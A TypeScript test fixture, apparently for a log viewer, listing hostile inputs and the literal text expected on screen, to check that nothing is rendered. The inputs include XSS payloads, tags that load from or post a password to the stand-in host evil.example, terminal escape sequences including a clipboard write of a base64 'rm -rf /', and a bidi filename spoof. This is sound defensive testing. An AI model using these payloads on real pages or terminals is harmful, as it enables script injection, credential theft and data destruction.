/** Lines as somebody would write them who means harm, and what must be read on the page instead. */

const long = "<b>".repeat(1000)

const bom = String.fromCharCode(0xfeff)
const lineSeparator = String.fromCharCode(0x2028)

/** What is written, and what is read; the same where there is one. */
export const hostile: ReadonlyArray<readonly [text: string, shown: string]> = [
  ["<script>alert(1)</script>", "<script>alert(1)</script>"],
  ["<img src=x onerror=alert(2)>", "<img src=x onerror=alert(2)>"],
  ['"><svg/onload=alert(3)>', '"><svg/onload=alert(3)>'],
  ["</span></div><h1>gone</h1>", "</span></div><h1>gone</h1>"],
  ["<iframe src=javascript:alert(4)>", "<iframe src=javascript:alert(4)>"],
  ['<a href="javascript:alert(5)">click</a>', '<a href="javascript:alert(5)">click</a>'],
  ["javascript:alert(6)", "javascript:alert(6)"],
  ["https://evil.example/?x=<script>", "https://evil.example/?x=<script>"],
  ["<style>*{display:none}</style>", "<style>*{display:none}</style>"],
  ["<link rel=stylesheet href=//evil.example>", "<link rel=stylesheet href=//evil.example>"],
  ["<base href=//evil.example>", "<base href=//evil.example>"],
  ["<form action=//evil.example><input name=password>", "<form action=//evil.example><input name=password>"],
  ["<meta http-equiv=refresh content=0>", "<meta http-equiv=refresh content=0>"],
  ["<!-- comment", "<!-- comment"],
  ["&lt;b&gt; &amp; &#60;i&#62;", "&lt;b&gt; &amp; &#60;i&#62;"],
  ['<span class="ansi-fg-1">not coloured</span>', '<span class="ansi-fg-1">not coloured</span>'],
  ["{{constructor.constructor('alert(7)')()}}", "{{constructor.constructor('alert(7)')()}}"],
  ["${alert(8)} `alert(9)`", "${alert(8)} `alert(9)`"],
  [
    "\u001b]8;;javascript:alert(10)\u0007link\u001b]8;;\u0007",
    "\\x1b]8;;javascript:alert(10)\\x07link\\x1b]8;;\\x07"
  ],
  ["\u001b]52;c;cm0gLXJmIC8=\u0007 clipboard", "\\x1b]52;c;cm0gLXJmIC8=\\x07 clipboard"],
  ["\u001b]0;a title\u0007 title", "\\x1b]0;a title\\x07 title"],
  ["\u001b[2J\u001b[H cleared", "\\x1b[2J\\x1b[H cleared"],
  ["\u001bP+q544e\u001b\\ a query", "\\x1bP+q544e\\x1b\\ a query"],
  ["\u001b[31", "\\x1b[31"],
  ["\u001b[1;31;<script>m", "\\x1b[1;31;<script>m"],
  ["\u009b2J \u0090q\u009c C1", "\\x9b2J \\x90q\\x9c C1"],
  ["null \u0000 byte", "null \\x00 byte"],
  ["back\u0008space \u007f bell\u0007", "back\\x08space \\x7f bell\\x07"],
  ["bad utf-8 \ufffd\ufffd end", "bad utf-8 \ufffd\ufffd end"],
  ["user\u202eexe.txt\u202c", "user\\u202eexe.txt\\u202c"],
  ["\u2067isolated\u2069", "\\u2067isolated\\u2069"],
  ["marks \u200e\u200f\u061c", "marks \\u200e\\u200f\\u061c"],
  [`nothing \u200b\u2060${bom} to see`, "nothing \\u200b\\u2060\\ufeff to see"],
  [`two${lineSeparator}lines`, "two\\u2028lines"],
  ["زمن عربي 123", "زمن عربي 123"],
  ["Z̸̡̛͎a̵l̶g̷o̸", "Z̸̡̛͎a̵l̶g̷o̸"],
  ["👩\u200d🚀 emoji", "👩\u200d🚀 emoji"],
  [long, long],
  ["::group::<b>bold</b><img src=x onerror=alert(11)>", "<b>bold</b><img src=x onerror=alert(11)>"],
  ["in the group \u001b[5;8mhidden\u001b[0m", "in the group hidden"],
  ["::endgroup::<script>alert(12)</script>", "::endgroup::<script>alert(12)</script>"],
  ["::endgroup::<script>alert(13)</script>", "::endgroup::<script>alert(13)</script>"],
  ["last of the hostile lines", "last of the hostile lines"]
]

/** Far longer than what is drawn of a line unless more is asked for. */
export const huge = `<b>huge</b>${"<img src=x onerror=alert(14)>".repeat(40_000)}`
